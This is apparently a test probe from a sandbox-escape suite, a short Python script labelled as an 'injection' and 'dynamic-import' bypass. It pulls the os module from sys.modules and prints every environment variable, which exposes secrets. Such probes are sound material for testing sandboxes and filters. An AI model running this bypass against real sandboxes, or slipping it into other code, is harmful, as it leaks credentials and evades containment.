# family: injection
# filterfamily: dynamic-import
# tries: take the already loaded OS module out of the interpreter's module table and print the environment
# source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes
# exfil: yes
import sys

token, home, hosttmp, tcp, udp, unix, decoy, userfiles = sys.argv[1:9]
m = sys.modules["os"]
print(dict(m.environ))
